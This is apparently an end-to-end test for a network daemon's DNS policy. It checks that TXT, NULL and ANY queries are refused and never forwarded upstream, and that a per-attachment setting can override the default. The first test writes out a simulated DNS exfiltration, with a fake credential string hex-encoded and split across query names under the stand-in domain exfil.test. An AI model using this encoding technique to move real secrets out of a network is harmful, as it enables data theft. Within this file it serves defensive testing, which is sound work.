import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requireKernel, Sandbox, type SandboxNetwork } from "../helpers/sandbox.js";
import { waitFor } from "../helpers/daemon-harness.js";
import { dig, Dnsmasq, E2eDaemon, splitHostPort } from "../helpers/e2e.js";
import { addBridgeHost, EventWatcher, type ExtraHost } from "../helpers/security.js";

// Issue 10 item 10 — hex-encoded data in TXT queries under an allowed wildcard reached the
// upstream (DNS exfiltration through a name the policy must allow). The query-type policy
// (`dns.refuse_types`, per attachment `netfence.dns.refuse-types`) answers REFUSED and never
// forwards. Far side: dnsmasq's query log. Real daemon, real kernel, dnsmasq upstream.
//
//   A  workload 10.a.b.2: the config default (TXT, NULL, ANY refused)
//   B  workload 10.a.b.3: `netfence.dns.refuse-types=NULL` (TXT allowed for this tenant)

describe("DNS query-type policy (real daemon, dnsmasq upstream)", () => {
  let sb: Sandbox;
  let net: SandboxNetwork;
  let upstream: Dnsmasq;
  let daemon: E2eDaemon;
  let events: EventWatcher;
  let b: ExtraHost;
  const ids: Record<string, string> = {};
  const ports: Record<string, number> = {};
  let dnsHost: string;

  beforeAll(async () => {
    await requireKernel();
    sb = await Sandbox.create("nfqt");
    net = await sb.network({ hostAddress: true });
    b = await addBridgeHost(sb, net, 3);
    upstream = await Dnsmasq.start(sb, net.serverNs, net.serverIp4[9]!, [{ name: "www.exfil.test", ipv4: net.serverIp4[0] }], [
      "--txt-record=note.exfil.test,hello",
    ]);
    daemon = new E2eDaemon({
      pinRoot: await sb.pinRoot(),
      dns: { listenAddr: net.hostIp4!, upstream: `${net.serverIp4[9]}:53`, extra: ["refuse_types: [TXT, NULL, ANY]"] },
      yaml: ["default_policy:", "  mode: allowlist", "  dns:", "    mode: allowlist", '    allow_domains: ["*.exfil.test"]'].join("\n"),
      metrics: true,
    });
    await daemon.start();
    const a = await daemon.attachInterface(net.hostIf, { "netfence.workload-ips": net.workloadIp4 });
    const bb = await daemon.attachInterface(b.hostIf, { "netfence.workload-ips": b.ip4, "netfence.dns.refuse-types": "NULL" });
    ids["a"] = a.id;
    ids["b"] = bb.id;
    ({ host: dnsHost, port: ports["a"] } = splitHostPort(a.dnsAddress));
    ports["b"] = splitHostPort(bb.dnsAddress).port;
    events = await EventWatcher.start(daemon.socket);
  }, 120_000);

  afterAll(async () => {
    await events?.stop();
    for (const id of Object.values(ids)) if (daemon?.alive()) await daemon.cli("detach", "--id", id);
    await daemon?.cleanup();
    await upstream?.stop();
    await sb?.cleanup();
  });

  it("TXT queries carrying hex data under an allowed wildcard get REFUSED and never reach the upstream; A queries still resolve", async () => {
    const secret = Buffer.from("db-password=hunter2;api-key=0123456789abcdef").toString("hex");
    const chunks = secret.match(/.{1,60}/g)!;
    const names = chunks.map((c, i) => `${c}.${i}.exfil.test`);
    for (const name of names) {
      for (const tcp of [false, true]) {
        const r = await dig(sb, net.workloadNs, dnsHost, ports["a"]!, name, "TXT", { tcp });
        expect({ name, tcp, status: r.status }).toEqual({ name, tcp, status: "REFUSED" });
      }
    }
    for (const type of ["NULL", "ANY"]) expect((await dig(sb, net.workloadNs, dnsHost, ports["a"]!, "note.exfil.test", type)).status).toBe("REFUSED");
    // The same names as A queries are allowed (the wildcard) — and prove the log is current.
    const marker = await dig(sb, net.workloadNs, dnsHost, ports["a"]!, "www.exfil.test", "A");
    expect(marker.answers.map((x) => x.data)).toEqual([net.serverIp4[0]]);
    await waitFor(() => upstream.count("www.exfil.test", "A") >= 1, "the marker query in the dnsmasq log", 5000);
    const reached = upstream.queries();
    expect(reached.filter((q) => q.type !== "A")).toEqual([]);
    for (const name of names) expect(upstream.asked(name)).toBe(false);
    const m = await daemon.metrics();
    expect(m.get(`netfence_dns_queries{attachment="${ids["a"]}",outcome="refused-type"}`)).toBe(names.length * 2 + 2);
    await waitFor(() => events.events((e) => e.reason === "dns-query-type" && e.attachmentId === ids["a"]).length >= names.length, "query-type events", 5000);
    expect(events.events((e) => e.reason === "dns-query-type").map((e) => e.rule)).toContain(`TXT ${names[0]}`);
  });

  it("an attachment's own refuse-types override the config default (B may ask TXT, not NULL)", async () => {
    const txt = await dig(sb, b.ns, dnsHost, ports["b"]!, "note.exfil.test", "TXT");
    expect(txt.status).toBe("NOERROR");
    expect(txt.answers.map((x) => x.data)).toEqual(['"hello"']);
    expect(upstream.count("note.exfil.test", "TXT")).toBe(1);
    expect((await dig(sb, b.ns, dnsHost, ports["b"]!, "note.exfil.test", "NULL")).status).toBe("REFUSED");
    expect(upstream.queries().some((q) => q.type === "NULL")).toBe(false);
  });
});
